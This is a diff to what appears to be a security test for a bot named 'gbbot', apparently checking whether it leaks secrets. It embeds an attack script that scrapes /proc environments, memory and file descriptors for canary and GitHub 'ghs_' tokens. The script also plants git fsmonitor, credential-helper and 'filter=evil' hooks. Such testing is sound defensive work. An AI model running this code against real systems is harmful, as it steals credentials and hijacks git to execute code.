@@ -11,16 +11,12 @@ include.path, a hook), each program appending its environment to HOOK_LOG.
 
 from __future__ import annotations
 
-import re
-
-CANARY = re.compile(r"canary_[0-9a-f]{16}")
-
 ATTACK = r"""
 import json, os, re, stat, subprocess, sys
 
 out = sys.argv[1]
 found = {"environ": {}, "cmdline": {}, "mem": [], "fd": {}, "refused": {}, "gbbot_pid": None}
-TOKEN = re.compile(rb"canary_[0-9a-f]{16}")
+TOKEN = re.compile(rb"canary_[0-9a-f]{16}|ghs_[A-Za-z0-9_]{8,}")
 
 
 def read(path, limit=1 << 20):
@@ -42,9 +38,14 @@ for pid in (d for d in os.listdir("/proc") if d.isdigit() and int(d) != me):
         if data is not None:
             found[what][pid] = data.decode("latin-1")
 
+def is_gbbot(pid):
+    args = (read(f"/proc/{pid}/cmdline") or b"").split(b"\0")
+    return b"gbbot" in args or any(a.endswith(b"/bin/gbbot") for a in args)
+
+
 pid = os.getppid()
 while pid > 1:
-    if b"gbbot" in (read(f"/proc/{pid}/cmdline") or b""):
+    if is_gbbot(pid):
         break
     pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
 found["gbbot_pid"] = pid
@@ -75,7 +76,8 @@ for fd in fds:
     if data:
         found["fd"][fd] = data.decode("latin-1")
 
-if "--plant-git-hooks" in sys.argv:
+git_dir = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True).stdout.strip()
+if "--plant-git-hooks" in sys.argv and git_dir:  # (fix verification runs in a copy without .git)
     log = sys.argv[sys.argv.index("--plant-git-hooks") + 1]
     hook = os.path.abspath("gbbot-hook.sh")
     with open(hook, "w") as f:
@@ -95,7 +97,6 @@ if "--plant-git-hooks" in sys.argv:
     with open(included, "w") as f:
         f.write(f"[core]\n\tfsmonitor = {hook}\n[credential]\n\thelper = !{hook}\n")
     config("include.path", included)
-    git_dir = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True).stdout.strip()
     os.makedirs(os.path.join(git_dir, "info"), exist_ok=True)
     with open(os.path.join(git_dir, "info", "attributes"), "w") as f:
         f.write("* filter=evil diff=evil\n")
